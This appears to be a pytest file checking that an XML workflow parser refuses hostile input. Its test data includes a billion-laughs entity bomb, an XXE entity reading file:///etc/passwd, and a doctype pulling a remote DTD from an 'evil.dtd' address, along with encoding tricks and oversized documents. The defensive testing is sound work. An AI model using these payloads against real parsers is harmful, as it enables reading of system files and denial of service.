"""XML of strangers: bombs, entities, odd encodings, wrong roots. Nothing is expanded, fetched or run."""

import pytest

from kunyu.engines.matters.errors import BadFlow
from kunyu.engines.matters.flows.drawing import draw
from kunyu.engines.matters.flows.reading import read_flow
from kunyu.engines.matters.flows.tables import evaluate
from kunyu.engines.matters.flows.tests.making import FILES
from kunyu.engines.matters.flows.xml import LIMIT_BYTES

pytestmark = pytest.mark.quick

LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>
<definitions>&c;</definitions>"""
FILE = b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><definitions>&x;</definitions>'
REMOTE = b'<!doctype d SYSTEM "http://198.51.100.1/evil.dtd"><definitions/>'
PARAMETER = b'<definitions/><!ENTITY % x "y">'


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (LAUGHS, "doctype"),
        (FILE, "doctype"),
        (REMOTE, "doctype"),
        (PARAMETER, "doctype"),
        (LAUGHS.decode().encode("utf-16"), "encoding"),
        (b"<?xml version='1.0' encoding='UTF-7'?>+ADw-definitions/+AD4-", "encoding"),
        ("<?xml version='1.0' encoding='GBK'?><definitions/>".encode("gbk"), "encoding"),
        (b"<definitions>\x00</definitions>", "encoding"),
        (b"", "xml"),
        (b"not xml", "xml"),
        (b"<definitions>", "xml"),
        (b"<a/><b/>", "xml"),
        (b"<definitions>\xff\xfe</definitions>", "xml"),
        (b"<x:definitions/>", "xml"),
        (b"<a>" * 300 + b"</a>" * 300, "xml"),
        (b"<definitions>" + b" " * LIMIT_BYTES + b"</definitions>", "size"),
    ],
)
def test_hostile_xml_is_refused_alike_everywhere(data, code):
    for act in (lambda: read_flow(data, "p"), lambda: evaluate(data, "d", {}), lambda: draw(data)):
        with pytest.raises(BadFlow) as refused:
            act()
        assert refused.value.context["fault"] == code


@pytest.mark.parametrize(
    "data", [b"<html/>", b'<definitions xmlns="urn:other"/>', b"<svg xmlns='http://www.w3.org/2000/svg'/>"]
)
def test_other_documents_are_told_what_they_are(data):
    with pytest.raises(BadFlow) as refused:
        read_flow(data, "p")
    assert refused.value.context["fault"] == "bpmn"


def test_a_byte_order_mark_is_no_fault():
    assert read_flow(b"\xef\xbb\xbf" + (FILES / "bpmn_io.bpmn").read_bytes(), "Process_1").tasks[0].code == "acceptance"
